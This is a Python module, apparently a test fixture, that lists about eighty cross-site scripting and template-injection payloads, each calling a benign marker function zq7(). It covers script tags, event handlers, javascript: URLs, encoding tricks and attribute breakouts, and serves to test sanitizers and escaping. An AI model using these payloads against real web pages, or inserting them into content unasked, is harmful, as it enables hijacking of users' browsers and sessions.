"""Eighty ways to write a script where text is meant; each would call `zq7()`."""

MARK = "zq7"
_LINES = """
<script>zq7()</script>
<SCRIPT>zq7()</SCRIPT>
<script src=data:,zq7()></script>
<script/x>zq7()</script>
<script
>zq7()</script>
<scr<script>ipt>zq7()</scr</script>ipt>
<script>zq7()
</script><script>zq7()</script>
</title><script>zq7()</script>
</textarea><script>zq7()</script>
</style><script>zq7()</script>
</noscript><script>zq7()</script>
--><script>zq7()</script>
<!--><script>zq7()</script>
]]><script>zq7()</script>
<![CDATA[<script>zq7()</script>]]>
<img src=x onerror=zq7()>
<img src=x onerror="zq7()">
<IMG SRC=x OnErRoR=zq7()>
<img/src=x/onerror=zq7()>
<img src=x onerror=&#122;q7()>
<img src="x`<script>zq7()</script>"`>
<img src=x:x onerror\t=zq7()>
"><img src=x onerror=zq7()>
'><img src=x onerror=zq7()>
`><img src=x onerror=zq7()>
><img src=x onerror=zq7()>
" onmouseover=zq7() x="
' onmouseover=zq7() x='
" autofocus onfocus=zq7() x="
' autofocus onfocus=zq7() x='
" style=animation-name:x onanimationstart=zq7() x="
"accesskey="x" onclick="zq7()" x="
<svg onload=zq7()>
<svg/onload=zq7()>
<svg><script>zq7()</script></svg>
<svg><animate onbegin=zq7() attributeName=x dur=1s>
<svg><a xlink:href=javascript:zq7()><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg onload=zq7()>"></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=zq7()>
<math href=javascript:zq7()>x</math>
<body onload=zq7()>
<body onpageshow=zq7()>
<iframe src=javascript:zq7()>
<iframe srcdoc="<script>parent.zq7()</script>">
<object data=javascript:zq7()>
<embed src=javascript:zq7()>
<video src=x onerror=zq7()>
<video><source onerror=zq7()></video>
<audio src=x onerror=zq7()>
<input autofocus onfocus=zq7()>
<select autofocus onfocus=zq7()>
<textarea autofocus onfocus=zq7()>
<details open ontoggle=zq7()>x</details>
<marquee onstart=zq7()>x</marquee>
<form action=javascript:zq7()><button>x</button></form>
<button formaction=javascript:zq7()>x</button>
<a href=javascript:zq7()>x</a>
<a href="java&#115;cript:zq7()">x</a>
<a href=" javascript:zq7()">x</a>
<a href="java&Tab;script:zq7()">x</a>
<a href=data:text/html,<script>zq7()</script>>x</a>
<base href=javascript:zq7()//>
<meta http-equiv=refresh content="0;url=javascript:zq7()">
<link rel=stylesheet href=javascript:zq7()>
<style>@import "javascript:zq7()"</style>
<style>*{background:url(javascript:zq7())}</style>
<div style="width:expression(zq7())">x</div>
<template><script>zq7()</script></template>
<dialog open onclose=zq7()><form method=dialog></dialog>
<x onclick=zq7() autofocus tabindex=1 onfocus=zq7()>x</x>
<<script>zq7()//<</script>
<script\\x20type="text/javascript">zq7();</script>
&lt;script&gt;zq7()&lt;/script&gt;
&amp;lt;script&amp;gt;zq7()&amp;lt;/script&amp;gt;
&#60;img src=x onerror=zq7()&#62;
&#x3C;img src=x onerror=zq7()&#x3E;
＜script＞zq7()＜/script＞
javascript:zq7()
{{ zq7 }}{% import os %}{{ 7*7 }}
${zq7()}#{zq7()}<%= zq7() %>
';zq7();//
";zq7();//
\\";zq7();//
</script><img src=x onerror=zq7()>
+ADw-script+AD4-zq7()+ADw-/script+AD4-
<![if IE]><script>zq7()</script><![endif]>
<?xml-stylesheet href="javascript:zq7()"?><?php zq7() ?>
<a href="https://x.example/&quot;onclick=zq7()&quot;">x</a>
""".replace("\n>zq7", "\x0c>zq7").replace("zq7()\n</script>", "zq7()\x0c</script>")
PAYLOADS = [line.replace("\x0c", "\n").replace("\\t", "\t") for line in _LINES.split("\n") if line]
